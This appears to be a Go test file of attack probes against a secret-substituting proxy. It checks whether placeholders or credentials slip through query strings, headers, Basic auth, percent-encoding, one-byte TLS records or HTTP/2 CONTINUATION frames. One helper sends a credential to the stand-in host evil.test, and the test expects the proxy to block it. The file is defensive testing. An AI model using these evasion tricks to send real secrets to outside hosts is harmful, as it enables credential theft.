package attack

import (
	"encoding/base64"
	"strings"

	"github.com/cutoutdev/cutout/internal/policy"
	"github.com/cutoutdev/cutout/internal/proxy"
	"github.com/cutoutdev/cutout/internal/secret"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// D: through the value or the placeholder.
var sectionD = []probe{
	{entry: "D2", name: "query", run: ask("GET", "/echo?key="+P, "good.test"), want: forbidden(policy.SurfaceOff)},
	{entry: "D2", name: "query name", run: ask("GET", "/echo?"+P+"=1", "good.test"), want: forbidden(policy.SurfaceOff)},
	{entry: "D2", name: "path segment", run: ask("GET", "/echo/"+P+"/x", "good.test"), want: forbidden(policy.SurfaceOff)},
	{entry: "D3", name: "header name", run: ask("GET", "/echo", "good.test", "x-"+strings.ToLower(P), "1"), want: want{status: []int{403, 200}}},
	{entry: "D3", name: "method", run: ask(P, "/echo", "good.test"), want: forbidden(policy.BadPosition)},
	{entry: "D3", name: "authority", run: ask("GET", "/echo", P+".good.test"), want: want{status: []int{400, 403, 421}}},
	{entry: "D4", name: "percent-encoded in the query", run: ask("GET", "/echo?key=%24%4dSB%5FAPI_KEY", "good.test"), want: forbidden(policy.SurfaceOff)},
	{entry: "D4", name: "Basic, password", run: ask("GET", "/echo", "good.test", "Authorization", "Basic "+b64("user:"+P)), want: want{status: []int{200}}, check: basicArrived},
	{entry: "D4", name: "Basic, odd scheme and spaces", run: ask("GET", "/echo", "good.test", "Authorization", "bAsIc   "+b64("user:"+P)), want: want{status: []int{200}}, check: basicArrived},
	{entry: "D4", name: "Basic, to another host", change: all, run: toEvil("Basic " + b64("user:"+P)), want: forbidden(policy.HostNotAllowed)},
	{entry: "D4", name: "raw, to another host", change: all, run: toEvil(bearer), want: forbidden(policy.HostNotAllowed)},
	{entry: "D4", name: "raw, to another host, unopened", run: unopened("evil.test"), want: want{status: []int{200}, carried: true}},
	{entry: "D5", name: "head in one-byte records", run: oneByteRecords, want: substituted},
	{entry: "D5", name: "CONTINUATION frames of one byte", run: continuations, want: substituted, only: "h2"},
	{entry: "D6", name: "a placeholder that begins another", run: overlapping(P, P+"_LONG"), want: unanswered},
	{entry: "D6", name: "a placeholder inside another", run: overlapping(P, "x"+P+"x"), want: unanswered},
	{entry: "D6", name: "one placeholder for two secrets", run: overlapping(P, P), want: unanswered},
	{entry: "D6", name: "a short placeholder", run: overlapping(P, "$MSB_A"), want: unanswered},
}

func all(b *boundary) { b.Config.Intercept = proxy.All }

func toEvil(credential string) func(*boundary) outcome {
	return func(b *boundary) outcome {
		c, err := b.Secure(target{Name: "evil.test"})
		if err != nil {
			return outcome{err: err}
		}
		defer c.Close()
		return b.request(c, "GET", "/echo", "evil.test", "Authorization", credential)
	}
}

func basicArrived(b *boundary) error {
	if got := b.Received(); !strings.Contains(got, b64("user:"+V)) {
		return errNotArrived
	}
	return nil
}

func oneByteRecords(b *boundary) outcome {
	c, err := b.Secure(target{})
	if err != nil {
		return outcome{err: err}
	}
	defer c.Close()
	return b.request(slow{c}, "GET", "/echo", "good.test", "Authorization", bearer)
}

func continuations(b *boundary) outcome {
	c, err := b.Secure(target{})
	if err != nil {
		return outcome{err: err}
	}
	defer c.Close()
	f := b.frames(c)
	f.SplitHead(1, ":method", "GET", ":scheme", "https", ":path", "/echo", ":authority", "good.test", "authorization", bearer)
	return f.outcome(1)
}

// overlapping loads two secrets whose placeholders cannot be told apart; it
// answers only if that succeeds.
func overlapping(first, second string) func(*boundary) outcome {
	return func(b *boundary) outcome {
		b.InProcess(atLoad)
		_, err := secret.NewSet([]*secret.Secret{
			b.NewSecret("ONE", first, V, "good.test"),
			b.NewSecret("TWO", second, "an0ther-value-of-the-corpus", "good.test"),
		})
		if err != nil {
			return outcome{err: err}
		}
		return outcome{status: 200}
	}
}
